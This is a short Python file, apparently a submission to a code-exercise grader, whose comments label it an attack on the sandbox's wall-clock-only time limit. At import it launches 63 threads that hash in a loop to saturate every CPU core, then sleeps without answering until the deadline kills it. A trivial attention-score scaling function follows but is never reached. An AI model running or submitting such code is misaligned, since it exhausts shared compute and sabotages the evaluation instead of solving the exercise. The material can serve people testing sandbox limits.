# Attack: the time limit is wall-clock only (no RLIMIT_CPU, no CPU share): 63 spinning threads beside
# the main thread use every core of the machine until the deadline (64 cores x the limit on a big box).
# The threads spin in ctypes-free pure C (hashlib releases the GIL for large inputs).
import hashlib, math, threading, time
_data = b"x" * (1 << 20)
def _spin():
    while True:
        hashlib.sha256(_data).digest()
for _ in range(63):
    try:
        threading.Thread(target=_spin, daemon=True).start()
    except RuntimeError:
        break
time.sleep(1e6)  # never answers: the per-exercise deadline must end it
def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)
def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
